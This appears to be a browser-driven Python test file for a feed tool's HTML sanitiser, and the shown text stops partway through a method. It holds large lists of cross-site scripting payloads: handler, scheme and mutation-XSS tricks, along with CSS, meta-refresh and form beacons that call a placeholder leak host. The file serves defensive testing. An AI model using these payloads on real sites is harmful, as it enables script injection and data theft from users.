"""What a real browser does with the entries of the written feeds: it runs nothing, and asks for nothing but pictures and media.

The command line builds a site from posts that hold every technique of the public collections of attacks. The entries are
taken out of the written feeds, as a reader would, and put into pages of a server on this machine, parsed and by script.
Each page triggers whatever could be triggered. The same bodies uncleaned show that the server would hear of it.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import partial
from html import unescape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from heavy import heavy
from lxml import etree
from runs import build, lay

from feedtool.sanitiser.safety import ALLOWED, EVERYWHERE

pytestmark = heavy

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), "")

PROSE = (
    "<p>The ferryman had not owned a motor for thirty years, and nobody in the village could say when the last one "
    "went. He pulled the boat across by a rope that his father had spliced.</p>"
)

# In the attacks, JS stands for a script that tells the server that it ran, URL for an address of the server.

#: elements that take a handler without anybody's doing, or by what the page does to each element
HANDLERS = {
    "<img src=x {}>": "onerror onload onmouseover onclick onpointerrawupdate onloadstart",
    "<img {} src=x:x>": "onerror",
    "<image src=x {}>": "onerror",
    "<svg {}>": "onload onclick onfocusin onbegin",
    "<svg><a {}><text>x</text></a></svg>": "onmouseover onfocus",
    "<svg><animate {} attributeName=x dur=1s>": "onbegin onend onrepeat",
    "<svg><image href=x {}>": "onerror",
    "<body {}>": "onload onpageshow onfocus onresize onhashchange onscroll onmessage onpopstate onunload onbeforeunload",
    "<frameset {}>": "onload onfocus",
    "<input autofocus {}>": "onfocus onblur oninput onchange onselect oninvalid onsearch",
    "<input type=image src=x {}>": "onerror",
    "<textarea autofocus {}>x</textarea>": "onfocus",
    "<select autofocus {}><option>x</select>": "onfocus",
    "<button autofocus {}>x</button>": "onfocus onclick",
    "<keygen autofocus {}>": "onfocus",
    "<video src=x {}></video>": "onerror onloadstart oncanplay onplay onratechange onvolumechange",
    "<video><source src=x {}></video>": "onerror",
    "<video poster=x {}></video>": "onmouseenter onwaiting",
    "<audio src=x {}></audio>": "onerror onstalled",
    "<video><track default src=x {}></video>": "onerror oncuechange",
    "<details open {}><summary>x</summary>y</details>": "ontoggle onbeforetoggle",
    "<marquee {}>x</marquee>": "onstart onbounce onfinish",
    "<iframe src=URL/f {}></iframe>": "onload onerror",
    "<object data=x {}></object>": "onerror onload",
    "<embed src=x {}>": "onload onerror",
    "<link rel=stylesheet href=x {}>": "onerror onload",
    "<style {}>p{{}}</style>": "onload",
    "<script src=x {}></script>": "onerror",
    "<form {}><input type=submit></form>": "onsubmit onreset onformdata",
    "<dialog open {}>x</dialog>": "onclose oncancel",
    "<p {}>x</p>": "onclick onmouseover onmousedown onmouseenter onwheel oncopy oncut onpaste oncontextmenu onauxclick ondblclick ondrag"
    " ondragstart ondrop onkeydown onkeypress onkeyup onpointerdown onpointerover ongotpointercapture ontouchstart onanimationstart"
    " onanimationend ontransitionend ontransitionrun onselectstart onfullscreenchange onscrollend onbeforecopy onbeforematch"
    " onsecuritypolicyviolation onslotchange onsnapchanged oncommand onbeforeinput",
    "<a href=#x {}>x</a>": "onclick onfocus onblur onactivate",
    "<table {}><tr><td>x</table>": "onmouseover",
    "<isindex type=image src=1 {}>": "onerror",
    "<x-y tabindex=1 {}>x</x-y>": "onfocus onclick",
}

#: ways to write a tag and a handler that a filter may not know for one
SPELLINGS = (
    "<img/src=x/onerror=JS>", "<img src=x\nonerror\n=\nJS>", "<img src=x\x0conerror=JS>", "<IMG SRC=x ONERROR=JS>", "<img src=x OnErRoR='JS'>",
    '<img """><script>JS</script>">', "<img src='x'onerror=JS>", '<img src=x onerror="JS"', "<img src=x onerror=JS//", "<<img src=x onerror=JS>",
    "<img src=x onerror=`JS`>", "<img src=x onerror=&#116;op.pwned(0)>", "<img src=x onerror=&#x74;op&period;pwned&lpar;0&rpar;>", "<img src=x src=y onerror=1 onerror=JS>",
    "<img src=x onerror=JS onerror=1>", "<img\0 src=x onerror=JS>", "<im\0g src=x onerror=JS>", "<img src=x on\0error=JS>", "<img src=x onerror\0=JS>", '<img src=x "onerror=JS">',
    "<img alt='<' src=x onerror=JS>", '<img alt=">" src=x onerror=JS>', "<img alt=`><img src=x onerror=JS>`>", "<a title='</a><img src=x onerror=JS>'>x</a>", "<img =x onerror=JS src=x>",
    "<img src=x onerror=JS x='", "<scr<script>ipt>JS</scr</script>ipt>", "<script>JS", "<script\x0c>JS</script>", "<script/x>JS</script >", "<script>JS</script\t\n bar>", "<SCRIPT>JS</SCRIPT>",
    "<script type=module>JS</script>", "<script src=data:,JS></script>", "<script src=URL/s.js></script>", "<script src=//HOST/leak/ID/s.js></script>", "<script/src=URL/s.js>", "<script src=URL/s.js?<b>",
    "<script language=vbscript>JS</script>", "<script\x20type='text/javascript'>JS</script>", "<svg><script>JS</script></svg>", "<svg><script href=URL/s.js />", "<svg><script xlink:href=data:,JS></script>",
    "<svg><script>&#116;op.pwned(0)</script>", "<math><script>JS</script></math>", "<x:script xmlns:x=http://www.w3.org/1999/xhtml>JS</x:script>", "<!doctype html><body/onload=JS>", "<br onclick=JS>",
    "</p onclick=JS><p onclick=JS", "<a\tonmouseover\t=\tJS>x</a>", "<p/onclick=JS/x=>x</p>", "<p\x0bonclick=JS>x</p>", "<img src=x onerror\x0b=JS>", "<img src=x onerror=\x0bJS>", "<\x00script>JS</script>",
    "<img src=x onerror=JS&gt;", "&lt;img src=x onerror=JS&gt;", "&amp;lt;img src=x onerror=JS&amp;gt;", "&#60;script&#62;JS&#60;/script&#62;", "%3Cscript%3EJS%3C/script%3E", "\\x3cscript\\x3eJS\\x3c/script\\x3e",
    "+ADw-script+AD4-JS+ADw-/script+AD4-", "＜script＞JS＜/script＞", "‹script›JS‹/script›", "<ſcript>JS</ſcript>", "<ımg src=x onerror=JS>", "<ﬁgure onclick=JS>x", "<img src=x ｏnerror=JS>", "<\u200bscript>JS</script>",
)  # fmt: skip

#: places for an address; {} is the address
PLACES = (
    '<a href="{}">x</a>', '<map name=m><area shape=rect coords=0,0,99,99 href="{}"></map>', '<img src="{}">', '<img srcset="{} 1x">', '<iframe src="{}"></iframe>', '<frameset><frame src="{}"></frameset>',
    '<embed src="{}">', '<object data="{}"></object>', '<object><param name=src value="{}"><param name=movie value="{}"></object>', '<form action="{}"><button autofocus>x</button></form>', '<form><button formaction="{}">x</button></form>',
    '<form id=f1></form><button form=f1 formaction="{}">x</button>', '<form><input type=submit formaction="{}"></form>', '<input type=image src="{}">', '<video src="{}"></video>', '<video poster="{}"></video>', '<audio src="{}"></audio>',
    '<video><source src="{}"></video>', '<picture><source srcset="{}"><img src=x></picture>', '<video><track default src="{}"></video>', '<link rel=stylesheet href="{}">', '<link rel=import href="{}">', '<base href="{}"><a href=x>x</a>',
    '<body background="{}">', '<table background="{}"><tr><td background="{}">x</table>', '<blockquote cite="{}">x</blockquote>', '<q cite="{}">x</q>', '<ins cite="{}">x</ins>', '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<svg><a href="{}"><text y=9>x</text></a></svg>', '<svg><use xlink:href="{}"/></svg>', '<svg><use href="{}#x"/></svg>', '<svg><image href="{}"/></svg>', '<svg><feImage href="{}"/></svg>', '<svg><a><animate attributeName=href values="{}"/><text y=9>x</text></a></svg>',
    '<svg><a><set attributeName=xlink:href to="{}"/><text y=9>x</text></a></svg>', '<svg><a href=#x><animate attributeName=href from="{}" to="{}" begin=0s fill=freeze /><text y=9>x</text></a></svg>', '<math href="{}">x</math>',
    '<math><mi xlink:href="{}">x</mi></math>', '<math><maction actiontype=statusline xlink:href="{}">x</maction></math>', '<applet code="{}" archive="{}"></applet>', '<script src="{}"></script>', '<isindex action="{}" type=submit>', '<bgsound src="{}">',
    '<img lowsrc="{}" dynsrc="{}">', '<img longdesc="{}" usemap="{}">', '<a href=https://a.example/ ping="{}">x</a>', '<html manifest="{}">', '<meta http-equiv=refresh content="0;url={}">', '<meta http-equiv=refresh content="0 {}">', '<layer src="{}"></layer>',
    '<command icon="{}">', '<xml src="{}"></xml>', '<a href="https://a.example/" xml:base="{}">x</a>', '<div style="background:url({})">x</div>', '<li style="list-style-image:url({})">x', '<p itemid="{}" itemtype="{}">x</p>', '<portal src="{}"></portal>',
    '<fencedframe src="{}"></fencedframe>', '<video data-src="{}"></video>', '<img data-src="{}" class=lazy src=data:,>', '<iframe data-src="{}"></iframe>', '<a name=x data-href="{}" href=" {} ">x</a>', '<noscript><img src="{}"></noscript>', '<amp-iframe src="{}"></amp-iframe>',
    '<amp-img src="{}"></amp-img>', '<img data-srcset="{} 1x, {} 2x">', '<video data-poster="{}"></video>', '<link rel=prefetch href="{}">', '<img src=x:x data-lazy-src="{}">', '<noscript><iframe src="{}"></iframe></noscript>',
)  # fmt: skip

#: an address that is a script, as filters have met it
SCHEMES = (
    "javascript:JS", "JaVaScRiPt:JS", " javascript:JS", "\x01javascript:JS", "\x1fjavascript:JS", "java\tscript:JS", "java\nscript:JS", "java\rscript:JS", "javascript\t:JS", "javascript:\nJS", "&#106;avascript:JS", "&#x6A;avascript:JS",
    "&#0000106avascript:JS", "&#x6Aavascript:JS", "javascript&colon;JS", "javascript&#58;JS", "java&Tab;script:JS", "java&NewLine;script:JS", "&#1;javascript:JS", "&#14;  javascript:JS", "&nbsp;javascript:JS", "\u2028javascript:JS",
    "\ufeffjavascript:JS", "\u3000javascript:JS", "\u200bjavascript:JS", "\u1680javascript:JS", "java\0script:JS", "java&#0;script:JS", "java\u00adscript:JS", "java&shy;script:JS", "java\x0bscript:JS", "javascript://%0aJS", "javascript://a.example/%0d%0aJS",
    "javascript:/*--></title></style></textarea></script></xmp>*/JS", "javascript&amp;colon;JS", "javascript%3AJS", "%6aavascript:JS", "vbscript:JS", "VBS&#99;ript:JS", "livescript:JS", "mocha:JS", "view-source:javascript:JS", "feed:javascript:JS",
    "feed:data:text/html,<script>JS</script>", "jar:URL/x!/", "blob:URL", "filesystem:URL/temporary/x", "about:blank#javascript:JS", "data:text/html,<script>fetch('URL/d')</script>", "data:text/html;base64,PHNjcmlwdD50b3AucHduZWQoMCk8L3NjcmlwdD4=",
    "data:text/html;charset=utf-16,JS", "DATA:text/html,<script>fetch('URL/d')</script>", "data&colon;text/html,<script>fetch('URL/d')</script>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('URL/d')</script></svg>",
    "data:application/xhtml+xml,<x/>", "data:text/javascript,JS", "data:text/css,*{background:url(URL/c)}", "ｊavascript:JS", "javascript：JS", "jаvascript:JS", "//HOST/leak/ID/n", "\\\\HOST\\leak\\ID\\n", "/\\HOST/leak/ID/n", "http:\\\\HOST\\leak\\ID\\n", "URL/n",
)  # fmt: skip

#: elements whose text a parser reads raw, or not at all, depending on where it thinks it is
RAW = tuple(
    "noscript template style title textarea xmp iframe noembed noframes plaintext listing script select option svg math object video".split()
)

#: how to break out of them; {0} is the element
BREAKS = (
    '<{0}><p title="</{0}><img src=x onerror=JS>">',
    "<{0}><!-- </{0}><img src=x onerror=JS> -->",
    "<{0}><a id='</{0}><script>JS</script>'>x</a></{0}>",
)

#: one parser's element is another parser's text: namespaces, misnested tables and formatting, comments and the like
CONFUSIONS = (
    "<math><mtext><table><mglyph><style><img src=x onerror=JS>", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;">', "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>",
    '<svg></p><style><a id="</style><img src=x onerror=JS>">', "<svg><style><img src=x onerror=JS></style></svg>", "<svg><p><style><img src=x onerror=JS>", "<svg><foreignObject><style><!--</style><img src=x onerror=JS>-->", "<svg><desc><style><img src=x onerror=JS>",
    "<svg><title><style><img src=x onerror=JS>", "<svg><title><img src=x onerror=JS></title></svg>", '<svg><title><a title="</title><img src=x onerror=JS>">', "<math><annotation-xml encoding=text/html><style><img src=x onerror=JS>", "<math><annotation-xml><style><img src=x onerror=JS>",
    "<math><mi><style><!--</style><img src=x onerror=JS>--></mi></math>", "<math><mtext><svg><title><style><img src=x onerror=JS>", "<svg><mtext><style><img src=x onerror=JS>", "<math><img src=x onerror=JS>", "<svg><img src=x onerror=JS>", "<svg><b><style><img src=x onerror=JS>",
    '<math><mglyph><svg><mtext><style><path id="</style><img onerror=JS src>">', '<math><mtext><option><font><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=JS>">', "<svg><textarea><img src=x onerror=JS></svg>", "<math><xmp><img src=x onerror=JS></math>",
    '<svg><noscript><p title="</noscript><img src=x onerror=JS>">', "<svg><![CDATA[><img src=x onerror=JS>]]>", "<math><![CDATA[</math><img src=x onerror=JS>]]>", "<![CDATA[<img src=x onerror=JS>]]>", "<svg><![CDATA[<!--]]><img src=x onerror=JS>-->", "<table><svg><style><td><img src=x onerror=JS>",
    "<table><tr><td><svg><title><td><img src=x onerror=JS>", "<table><math><tr><style><img src=x onerror=JS>", "<table><select><tr><script>JS</script>", "<select><template><img src=x onerror=JS></template></select>", "<select><style></select><img src=x onerror=JS></style>", "<select><math><style><img src=x onerror=JS>",
    "<p><svg></p><img src=x onerror=JS>", "<a><svg></a><style><img src=x onerror=JS>", "<b><svg><i></b><style><img src=x onerror=JS>", "<listing>&lt;img src=x onerror=JS&gt;</listing>", "<pre>\n&lt;img src=x onerror=JS&gt;", "<xmp>&lt;/xmp&gt;<img src=x onerror=JS>",
    "<div title='`onmouseover=JS'>x</div>", "<img alt='``onerror=JS' src=x>", "<img alt=' src=x onerror=JS x=' src=x>", "<img alt='&quot;><img src=x onerror=JS>' src=x>", "<img alt='&amp;quot; onerror=JS x=' src=x>", "<a title='&lt;/a&gt;&lt;img src=x onerror=JS&gt;' href=x>x</a>",
    "<!--><img src=x onerror=JS>-->", "<!---><img src=x onerror=JS>-->", "<!-- --!><img src=x onerror=JS>-->", "<!-- -- ><img src=x onerror=JS>", "<!--\x00--><img src=x onerror=JS>", "<!-- x <!-- y --> <img src=x onerror=JS> -->", "<!-x><img src=x onerror=JS>", "<!><img src=x onerror=JS>", "<!x '><img src=x onerror=JS>'>",
    "<!--[if true]><script>JS</script><![endif]-->", "<!--[if]><script>JS</script -->", "<!--[if<img src=x onerror=JS//]> -->", "<![if IE]><script>JS</script><![endif]>", "<comment><img src='</comment><img src=x onerror=JS>'>", "<?xml version='1.0'?><script>JS</script>", "<?x '><img src=x onerror=JS>'?>",
    "<? foo='><script>JS</script>'>", "</ foo='><script>JS</script>'>", "<% foo><x foo='%><script>JS</script>'>", "<!doctype x [<!entity a '<img src=x onerror=JS>'>]>&a;", "<!doctype html><plaintext><img src=x onerror=JS>", "<!ELEMENT x><img src=x onerror=JS>", "<style>@import'URL/c';</style>",
    "<style><!--</style><img src=x onerror=JS>--></style>", "<style><style/><img src=x onerror=JS>", "<b><style><style////><img src=x onerror=JS></style>", "<title><title></title><img src=x onerror=JS></title>", "<iframe><textarea></iframe><img src=x onerror=JS>", "<noembed><noframes></noembed><img src=x onerror=JS>",
    "<template><s><template><s><img src=x onerror=JS></s></template></s></template>", "<div><template shadowrootmode=open><img src=x onerror=JS></template></div>", "<form><input name=parentNode><form><img src=x onerror=JS></form>", "<option><iframe></select><b><script>JS</script>",
    "<frameset><frame></frameset><img src=x onerror=JS>", "<p><frameset/onload=JS>", "<html><head><body onload=JS><html onclick=JS>", "<a><a><table><a><img src=x onerror=JS></table>", "<ruby><rtc><svg><rp><style><img src=x onerror=JS>", "<nobr><nobr><svg><nobr><style><img src=x onerror=JS>",
    "<h1><h2><svg></h1><style><img src=x onerror=JS>", "<dl><dt><svg><dd><style><img src=x onerror=JS>", "<caption><math><caption><style><img src=x onerror=JS>", "<video><svg><source><style><img src=x onerror=JS>", "<button><svg><button><style><img src=x onerror=JS>", "<br><svg></br><style><img src=x onerror=JS>",
    "<svg><font color=x><style><img src=x onerror=JS>", "<svg></svg></math><math></svg><style><img src=x onerror=JS>", "<DIV><DIV>" * 260 + "<math><mtext><style><img src=x onerror=JS>", "<div>" * 520 + "<svg><style><a title='</style><img src=x onerror=JS>'>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>JS</script></svg>#x'/>",
    "<svg><handler type=application/ecmascript>JS</handler></svg>", "<svg><set attributeName=onmouseover to=JS /></svg>", "<svg><animate attributeName=onload values=JS /></svg>", "<svg><discard onbegin=JS>", "<svg><style>*{background:url(URL/c)}</style></svg>", "<svg><style>@import 'URL/c'</style></svg>",
    "<svg><rect fill='url(URL/p#x)' filter='url(URL/p#y)'/></svg>", "<svg><script>JS<!--</script></svg>-->", "<math><semantics><annotation-xml encoding=application/xhtml+xml><script xmlns=http://www.w3.org/1999/xhtml>JS</script></annotation-xml></semantics></math>",
)  # fmt: skip

#: what would make a reader ask for something, leave the page, or take the page for another
REQUESTS = (
    "<meta http-equiv=refresh content='0;URL/m'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>fetch(`URL/d`)</script>'>", "<meta http-equiv=Set-Cookie content='a=1'>", "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'; report-uri URL/r\">",
    "<meta charset=utf-7>+ADw-script+AD4-JS+ADw-/script+AD4-", "<meta http-equiv=Link content='<URL/c>; rel=stylesheet'>", "<meta name=referrer content=unsafe-url>", "<link rel=stylesheet href=URL/c>", "<link rel='alternate stylesheet' href=URL/c>", "<link rel=preload as=script href=URL/s>", "<link rel=modulepreload href=URL/s>",
    "<link rel=prefetch href=URL/p>", "<link rel=prerender href=URL/p>", "<link rel=dns-prefetch href=//HOST>", "<link rel=icon href=URL/i>", "<link rel=manifest href=URL/m>", "<link rel=import href=URL/h>", "<link rel=expect href=#x blocking=render>", "<style>*{background:url(URL/c)}</style>",
    "<style>@import url(URL/c);</style>", "<style>@font-face{font-family:x;src:url(URL/f)}*{font-family:x}</style>", "<style>p{-moz-binding:url(URL/b#x);behavior:url(URL/h)}</style>", "<p style='background:url(URL/c)'>x</p>", "<p style=\"background:url('URL/c')\">x</p>", "<p style='width:expression(JS)'>x</p>",
    "<p style='w\\69dth:e\\78pression(JS)'>x</p>", "<p style='xss:expr/**/ession(JS)'>x</p>", "<p style='background:\\75rl(URL/c)'>x</p>", "<p style='position:fixed;inset:0;z-index:9'>over it all</p>", '<p style="content:url(URL/c);cursor:url(URL/k),auto">x</p>', "<p style='list-style:url(URL/c)'>x</p>", "<p style='border-image:url(URL/c)'>x</p>",
    "<p style='background:image-set(\"URL/c\" 1x)'>x</p>", "<p style='--x:url(URL/c);background:var(--x)'>x</p>", "<iframe srcdoc='<script>JS</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror=JS&gt;'></iframe>", '<iframe srcdoc="&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;"></iframe>', "<iframe src=URL/f srcdoc='<script>JS</script>'></iframe>",
    "<iframe src=https://www.youtube.com/embed/abcdef1 srcdoc='<script>JS</script>'></iframe>", "<iframe src=https://www.youtube.com/embed/abcdef1 onload=JS name=x allow=camera></iframe>", "<iframe src=https://www.youtube.com/embed/abcdef1 style='background:url(URL/c)'></iframe>", "<iframe sandbox='allow-scripts allow-same-origin' src=URL/f></iframe>",
    "<iframe src=//HOST/leak/ID/f></iframe>", "<iframe src=URL/www.youtube.com/embed/x></iframe>", "<iframe src=http://www.youtube.com@HOST/leak/ID/f></iframe>", "<iframe src='http://HOST\\@www.youtube.com/embed/x'></iframe>", "<iframe src=URL/f#https://www.youtube.com/embed/x></iframe>", "<iframe src='URL/f?//youtube.com/embed/x'></iframe>",
    "<IFRAME SRC=URL/f <", "<frameset cols=*><frame src=URL/f></frameset>", "<object data=URL/o></object>", "<object data=URL/o type=text/html></object>", "<object type=image/svg+xml data=URL/o.svg></object>", "<object classid=clsid:x codebase=URL/o></object>", "<object data='data:text/html;base64,PHNjcmlwdD50b3AucHduZWQoMCk8L3NjcmlwdD4='></object>",
    "<embed src=URL/e>", "<embed src=URL/e type=text/html>", "<embed code=URL/e allowscriptaccess=always>", "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=JS />'>", "<applet codebase=URL/ code=x></applet>", "<form action=URL/a><input name=a value=b><button>x</button></form>", "<form method=post action=URL/a><input type=submit></form>",
    "<form><button formaction=URL/a>x</button></form>", "<form action=URL/a><input name=q autofocus onfocus=this.form.submit()></form>", "<form action=URL/a><select name=s><option selected>the text that follows", "<form action=URL/a><textarea name=t>the text that follows", "<button form=x formaction=URL/a>x</button><form id=x>", "<isindex action=URL/a>",
    "<a href=https://a.example/ ping=URL/p>x</a>", "<a href=https://a.example/ target=_blank rel=opener>x</a>", "<a href=https://a.example/ target='<a&#10;href='>x</a>", "<a href=https://a.example/ attributionsrc=URL/p>x</a>", "<a href=x download>x</a>", "<img src=URL/i attributionsrc=URL/a>", "<base href=URL/b/><img src=x>", "<base target='the text that follows",
    "<html manifest=URL/m>", "<?xml-stylesheet href=URL/c ?>", "<?xml-stylesheet type='text/xsl' href='URL/c'?><p>x</p>", "<xml id=x src=URL/x></xml>", "<?import namespace=t implementation='URL/h'>", "<t:set attributeName=innerHTML to='<img src=x onerror=JS>'>", "<bgsound src=URL/b>", "<input type=image src=URL/i>", "<portal src=URL/p></portal>",
    "<script>fetch('URL/s')</script>", '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL/s"]}]}</script>', '<script type=importmap>{"imports":{"x":"URL/s"}}</script>', "<noscript><meta http-equiv=refresh content='0;URL/m'></noscript>", "<noscript><link rel=stylesheet href=URL/c></noscript>", "<noscript><style>@import 'URL/c'</style></noscript>",
    "<video controls><source src=URL/v onerror=JS></video>", "<img src='URL/i?", "<img src='URL/i?the text that follows<p>", "<a href='URL/i?", "<p title='", "<textarea>", "<plaintext>", "<xmp>", "<title>", "<style>", "<!--", "<![CDATA[", "<script>", "<noscript>", "<iframe>", "<select>", "<template>", "<svg>", "<math>", "<table>", "</div></div></body></html>",
    "</div></section></article></main></td></tr></table>", "</template></script></style></textarea></title><p>x</p>", "<table><tr><td></div>", "<b><i><a href=https://a.example/>", "<button>", "<form>", "<object>", "<video>", "<details>", "<ruby><rt>", "<dl><dt>", "<h1>", "<pre>", "<p><b><div><i>",
)  # fmt: skip

#: names that a page's script would take for its own
CLOBBERS = tuple(
    f"<{element} {attribute}={name}{more}>x"
    for (element, more), attribute, name in itertools.product(
        (("img", " src=x id=x"), ("form", "><input name=children"), ("iframe", " src=URL/f"), ("object", " data=x"), ("embed", " src=x"), ("a", " href=#x")),
        ("name", "id"),
        ("getElementById", "body", "cookie", "currentScript"),
    )
)  # fmt: skip


#: one of each kind that this browser falls for
CONTROLS = (
    "<img src=x onerror=JS>", "<svg onload=JS>", "<SCRIPT>JS</SCRIPT>", "<iframe srcdoc='<script>JS</script>'></iframe>", PLACES[0].replace("{}", "javascript:JS"), PLACES[4].replace("{}", "javascript:JS"),
    BREAKS[0].format("noscript"), BREAKS[0].format("style"), CONFUSIONS[0], "<details open ontoggle=JS><summary>x</summary>y</details>", "<p onanimationstart=JS>x</p>", "<meta http-equiv=refresh content='0;URL/m'>",
    "<link rel=stylesheet href=URL/c>", "<style>@import url(URL/c);</style>", "<embed src=URL/e>", "<object data=URL/o></object>", "<form><button formaction=URL/a>x</button></form>", "<script src=URL/s.js></script>", CLOBBERS[0],
)  # fmt: skip

#: entries on a page of the reader
BATCH = 20


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """A hostile body, as it is listed and as it is written for a server."""

    number: int
    form: str
    body: str


def _attacks(host: str) -> list[Attack]:
    """Return every attack, against the server of this host."""
    handlers = [form.format(f"{event}=JS") for form, events in HANDLERS.items() for event in events.split()]
    places = [place.replace("{}", scheme) for place in PLACES for scheme in ("javascript:JS", "URL/n")]
    by_scheme = [place.replace("{}", scheme) for scheme, place in itertools.product(SCHEMES, (PLACES[0], PLACES[4]))]
    mixed = [PLACES[at % len(PLACES)].replace("{}", scheme) for at, scheme in enumerate(SCHEMES)]
    breaks = [form.format(element) for element, form in itertools.product(RAW, BREAKS)]
    bodies = [*handlers, *SPELLINGS, *places, *by_scheme, *mixed, *breaks, *CONFUSIONS, *REQUESTS, *CLOBBERS]
    values = enumerate(dict.fromkeys(bodies))
    return [
        Attack(
            number=at,
            form=body,
            body=body.replace("JS", f"top.pwned({at})").replace("pwned(0)", f"pwned({at})")
            .replace("URL", f"http://{host}/leak/{at}").replace("HOST", host).replace("/ID/", f"/{at}/"),
        )
        for at, body in values
    ]  # fmt: skip


# --- the site, as a reader receives it


def _entries(folder: Path, host: str, attacks: list[Attack], *, trim: bool) -> dict[int, str]:
    """Build a site from the attacks, and return the content of each entry, the same in every format."""
    posts = {
        f"posts/{one.number}.html": f"---\ntitle: attack {one.number}\ndate: 2024-01-02\nfrom: http://{host}/leak/{one.number}/story\n"
        f"---\n{PROSE}{one.body}{PROSE}\n".encode("utf-8", "surrogatepass")
        for one in attacks
    }
    settings = f"[feeds]\nlimit = 0\nmax_bytes = 0\n[sanitiser]\ntrim = {str(trim).lower()}\n"
    lay(folder, {**posts, "feedtool.toml": settings})
    assert build(cwd=folder).status == 0
    atom = etree.fromstring((folder / "output/atom.xml").read_bytes(), etree.XMLParser(huge_tree=True))
    rss = etree.fromstring((folder / "output/rss.xml").read_bytes(), etree.XMLParser(huge_tree=True))
    held = json.loads((folder / "output/feed.json").read_text(encoding="utf-8"))
    by_format = [
        {entry.findtext("{*}title"): entry.findtext("{*}content") for entry in atom.findall("{*}entry")},
        {item.findtext("title"): item.findtext("{*}encoded") for item in rss.findall("channel/item")},
        {item["title"]: item["content_html"] for item in held["items"]},
    ]
    assert by_format[0] == by_format[1] == by_format[2]
    assert len(by_format[0]) == len(attacks)
    return {int(str(title).removeprefix("attack ")): str(html) for title, html in by_format[0].items()}


# --- the reader: a server on this machine, and a browser

_HOOKS = """<!doctype html><meta charset=utf-8><title>reader</title><script>
const numbers = %s, page = document, get = page.getElementById.bind(page), make = page.createElement.bind(page), text = Object.prototype.toString;
const report = (number, what) => fetch('/seen/' + number + '/' + encodeURIComponent(what), {keepalive: true});
for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) window[name] = () => { report(numbers[0], 'ran'); };
page.addEventListener('click', event => {
  const link = event.target.closest && event.target.closest('a, area');
  if (link && /^(https?|mailto|tel):/.test(link.protocol)) event.preventDefault();
}, true);
</script>"""

_CHECKS = """<script>addEventListener('load', async () => {
const rules = %s, entries = %s, events = %s, boxes = [], kinds = Object.entries({
  body: 'HTMLBodyElement', head: 'HTMLHeadElement', forms: 'HTMLCollection', cookie: 'String', currentScript: 'Null', getElementById: 'Function'});
const append = element => (page.documentElement.lastElementChild || page.documentElement).append(element);
function look(number, element) {
  const allowed = rules[element.localName];
  if (!allowed || !['1999/xhtml', '1998/Math/MathML'].includes(element.namespaceURI.replace('http://www.w3.org/', ''))) report(number, 'element ' + element.localName);
  else for (const {name} of element.attributes) if (!allowed.includes(name)) report(number, 'attribute ' + name);
  for (const name of events) element.dispatchEvent(new Event(name));
  if (element.focus) element.focus();
  if (element.click) element.click(); else element.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
}
for (const [number, html] of entries) {
  const parsed = get('parsed' + number), after = get('after' + number), set = make('div'), again = make('div');
  if (!parsed || !after || parsed.parentNode !== page.body || after.parentNode !== page.body) report(number, 'escaped');
  append(set); append(again);
  boxes.push([number, [parsed, set, again]]);
  set.innerHTML = html; again.innerHTML = set.innerHTML;
  for (const [name, kind] of kinds) if (text.call(page[name]) !== '[object ' + kind + ']') report(number, 'clobbered ' + name);
}
await new Promise(done => setTimeout(done, 20));
for (const [number, found] of boxes) for (const box of found)
  if (box) for (const element of box.querySelectorAll('*')) look(number, element);
await new Promise(done => setTimeout(done, 40));
if (page.title !== 'reader') report(numbers[0], 'title');
parent.postMessage(numbers[0], '*');
});</script>"""

_EVENTS = sorted(
    {event.removeprefix("on") for events in HANDLERS.values() for event in events.split()}
    - {"beforeunload", "unload", "hashchange", "popstate"}
)

_DRIVER = """<!doctype html><title>driver</title><script>
const numbers = %s, patience = %d, left = new Map();
window.pwned = number => fetch('/seen/' + number + '/ran', {keepalive: true});
function next() {
  if (!numbers.length) { if (!left.size) fetch('/finished'); return; }
  const number = numbers.shift(), frame = document.createElement('iframe');
  left.set(number, [frame, setTimeout(() => { fetch('/seen/' + number + '/lost'); over(number); }, patience)]);
  frame.src = '/page/' + number;
  document.body.append(frame);
}
function over(number) {
  if (!left.has(number)) return;
  const [frame, timer] = left.get(number);
  clearTimeout(timer); left.delete(number); frame.remove(); next();
}
addEventListener('message', event => over(event.data));
addEventListener('load', () => { for (let lane = 0; lane < 6; lane++) next(); });
</script><body>"""

#: what the page of an entry may ask for: `Sec-Fetch-Dest`
MEDIA = frozenset({"image", "video", "audio", "track"})


@dataclass
class Visit:
    """What a browser is shown, and what the server hears of it."""

    #: by the first number on it: the bodies on a page, by number
    pages: dict[int, dict[int, str]]
    #: milliseconds that a page may take before it counts as lost
    patience: int
    #: by page: what ran or changed there, and what was asked for beside pictures and media
    ran: dict[int, set[str]] = field(default_factory=dict)
    #: by page: pictures and media that were asked for
    shown: dict[int, set[str]] = field(default_factory=dict)
    finished: threading.Event = field(default_factory=threading.Event)

    def answer(self, path: str, destination: str) -> str:
        """Return a page of the reader, or "" for what there is not; note what that says."""
        kind, _, rest = path.removeprefix("/").partition("/")
        name, _, what = rest.partition("/")
        number = int(name) if name.isdecimal() else -1
        if path == "/":
            return _DRIVER % (json.dumps(sorted(self.pages)), self.patience)
        if kind == "page":
            return self._page(number)
        if kind == "finished":
            self.finished.set()
        elif kind == "seen":
            self.ran.setdefault(number, set()).add(what)
        elif kind == "leak" and destination in MEDIA:
